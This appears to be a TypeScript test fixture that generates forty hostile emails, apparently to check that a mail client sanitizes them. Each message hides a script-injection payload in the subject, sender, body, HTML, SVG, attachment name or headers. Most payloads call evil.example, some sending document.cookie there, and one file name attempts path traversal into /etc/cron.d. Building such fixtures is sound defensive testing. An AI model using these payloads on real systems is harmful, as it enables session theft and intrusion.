// Forty letters that want to run something in the browser of whoever reads them, each by another way:
// names, subjects, texts, HTML, SVG, file names, headers. All of them call out to evil.example.

const run = `alert(document.domain);fetch('https://evil.example/'+document.cookie)`
const ask =
  'Buongiorno, la domanda di pensione di vecchiaia presentata il 12 ottobre per il signor Mario Rossini non risulta ancora definita: si sollecita la lavorazione.'

export interface HostileLetter {
  readonly by: string
  readonly bytes: Buffer
}

const SENDER = 'paola@aurora.example'

interface Parts {
  readonly from?: string
  readonly subject?: string
  readonly headers?: readonly string[]
  readonly type?: string
  readonly body?: string
}

const plain = 'text/plain; charset=utf-8'
const page = 'text/html; charset=utf-8'

/** HTML that asks what a request asks, with the attack beside it. */
const html = (attack: string): Parts => ({ type: page, body: `<p>${ask}</p>${attack}` })

const file = (name: string, type: string, content: string): Parts => ({
  type: 'multipart/mixed; boundary=b',
  body: [
    `--b\r\nContent-Type: ${plain}\r\n\r\n${ask}`,
    `--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${content}`,
    '--b--\r\n',
  ].join('\r\n'),
})

const ways: Readonly<Record<string, Parts>> = {
  'a script in the subject': { subject: `<script>${run}</script>` },
  'an image in the subject': { subject: `"><img src=x onerror="${run}">` },
  'an encoded word in the subject': {
    subject: `=?utf-8?B?${Buffer.from(`<svg/onload=${run}>`).toString('base64')}?=`,
  },
  'an entity in the subject': { subject: `&lt;script&gt;${run}&lt;/script&gt;` },
  'the other direction in the subject': { subject: `\u202e</title><script>${run}</script>` },
  'a script in the name': { from: `"<script>${run.replaceAll(`'`, '')}</script>" <${SENDER}>` },
  'a quote in the name': { from: `"\\" autofocus onfocus=alert(1) x=\\"" <${SENDER}>` },
  'an encoded name': {
    from: `=?utf-8?Q?=3Cimg_src=3Dx_onerror=3Dalert=281=29=3E?= <${SENDER}>`,
  },
  'a comment in the name': { from: `${SENDER} (<iframe src=javascript:alert(1)>)` },
  'a script in the text': { body: `${ask}\n<script>${run}</script>` },
  'a link in the text': {
    body: `${ask}\njavascript:${run}\ndata:text/html,<script>${run}</script>`,
  },
  'a mark that never ends': { body: `${ask}\n<mark><mark onmouseover="${run}">` },
  'a template in the text': {
    body: `${ask}\n{{constructor.constructor('alert(1)')()}} \${alert(1)}`,
  },
  'a script': html(`<script>${run}</script>`),
  'a script from elsewhere': html(`<script src="https://evil.example/x.js"></script>`),
  'a script cut in two': html(`<scr<script>ipt>${run}</scr</script>ipt>`),
  'a module': html(`<script type=module>import('https://evil.example/x.mjs')</script>`),
  'a picture that fails': html(`<img src=x onerror="${run}">`),
  'a picture that counts': html(`<img src="https://evil.example/pixel.gif?id=1" width=1>`),
  'a set of pictures': html(
    `<picture><source srcset="https://evil.example/a.png 2x"><img srcset="//evil.example/b.png"></picture>`,
  ),
  'a style': html(
    `<style>@import "https://evil.example/x.css"; body{background:url(//evil.example)}</style>`,
  ),
  'an inline style': html(
    `<div style="background:url(https://evil.example/x);position:fixed;inset:0">`,
  ),
  'a sheet of styles': html(`<link rel=stylesheet href=https://evil.example/x.css>`),
  'a link fetched before': html(
    `<link rel="preload prefetch dns-prefetch" href=https://evil.example/>`,
  ),
  'an SVG': html(
    `<svg onload="${run}"><script>${run}</script><use href="data:image/svg+xml,x#x"/></svg>`,
  ),
  'an SVG that animates': html(
    `<svg><a xlink:href="javascript:${run}"><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  ),
  MathML: html(`<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`),
  'a frame': html(`<iframe srcdoc="<script>top.ran=1;${run}</script>"></iframe>`),
  'a frame of a script': html(
    `<iframe src="javascript:${run}"></iframe><embed src=//evil.example>`,
  ),
  'an object': html(`<object data="data:text/html,<script>${run}</script>"></object>`),
  'a refresh': html(`<meta http-equiv=refresh content="0;url=https://evil.example/">`),
  'a base': html(
    `<base href=https://evil.example/><a href=/desk>x</a><form><button>x</button></form>`,
  ),
  'a form that sends itself': html(
    `<form action=https://evil.example><input autofocus onfocus="${run}"><button>x</button></form>`,
  ),
  'a link': html(`<a href="javascript:${run}" ping=https://evil.example>INPS</a>`),
  'sound and film': html(
    `<video src=https://evil.example/v onerror="${run}" autoplay poster=//evil.example/p></video><audio src=x onerror="${run}">`,
  ),
  'another charset': {
    type: 'text/html; charset=utf-7',
    body: `<p>${ask}</p>+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  },
  'a file name': file(`"><img src=x onerror=alert(1)>.pdf`, 'application/pdf', '%PDF-1.4'),
  'a file name with folders': file(
    '../../../etc/cron.d/x<script>.html',
    'text/html',
    `<script>${run}</script>`,
  ),
  'an SVG as a file': file(
    'logo.svg',
    'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  ),
  headers: {
    headers: [
      `In-Reply-To: <"><script>${run}</script>@evil.example>`,
      `References: <x@evil.example><svg/onload=alert(1)>`,
      `X-Mailer: <script>${run}</script>`,
      `Content-Language: "><script>`,
    ],
  },
}

export const hostileLetters: readonly HostileLetter[] = Object.entries(ways).map(
  ([by, { from, subject, headers = [], type = plain, body = ask }], nr) => ({
    by,
    bytes: Buffer.from(
      [
        `From: ${from ?? `Paola <${SENDER}>`}`,
        'To: sportello@inps.example',
        `Subject: ${subject ?? `domanda di pensione ${nr}`}`,
        `Message-ID: <hostile.${nr}@aurora.example>`,
        ...headers,
        `Date: ${new Date(Date.now() - nr * 1000).toUTCString().replace('GMT', '+0000')}`,
        'MIME-Version: 1.0',
        `Content-Type: ${type}`,
        '',
        body,
        '',
      ].join('\r\n'),
    ),
  }),
)
